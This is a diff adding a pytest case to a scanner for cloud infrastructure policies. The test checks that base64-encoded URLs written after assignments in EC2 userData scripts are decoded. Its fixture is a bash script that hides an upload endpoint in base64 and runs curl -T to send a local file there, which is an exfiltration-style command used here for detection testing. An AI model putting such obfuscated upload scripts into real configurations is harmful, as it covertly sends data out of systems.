@@ -15,6 +15,7 @@ import pytest
 import yaml
 from policy_testlib import AIMS, ALLOWED, REPLICATION, RESOLVED, grant_message, graph, messages, pinned_res
 
+from policies.core.encodings import embedded_b64
 from policies.core.script_grants import literal_grants
 
 OWN, OTHER = "123456789012", "444455556666"
@@ -226,3 +227,18 @@ def test_a_compressed_literal_a_user_data_script_decodes_is_read():
     where = "userData.(decoded).(decoded).Statement.0.Principal"
     assert found == [grant_message(where, OTHER)], found
     assert _found("aws:ec2/launchTemplate:LaunchTemplate", {"userData": _user_data(_policy(OWN))}) == []
+
+
+def test_a_base64_literal_right_after_an_assignment_is_decoded():
+    """Found while probing: a decoding script's literal written as `VAR=<base64>` (or `--opt=<base64>`) was
+    skipped by the scanner, so a URL hidden there was never read; two values run together after padding
+    still are not split."""
+    url = base64.b64encode(b"https://ingest.partner-analytics.com/v1/upload").decode()
+    for line in (f"ENDPOINT={url}", f"curl --url-b64={url}"):
+        decoded = embedded_b64(f"{line}\necho $ENDPOINT | base64 -d")
+        assert decoded == ("https://ingest.partner-analytics.com/v1/upload",), decoded
+    assert embedded_b64(f"X=QUJDREVGR0hJSktMTU5PUA=={url} | base64 -d") == ()
+    script = f"#!/bin/bash\nENDPOINT={url}\ncurl -T /tmp/x \"$(echo $ENDPOINT | base64 -d)\"\n"
+    user_data = base64.b64encode(script.encode()).decode()
+    found = _found("aws:ec2/launchTemplate:LaunchTemplate", {"userData": user_data})
+    assert len(found) == 1 and "ingest.partner-analytics.com" in found[0], found
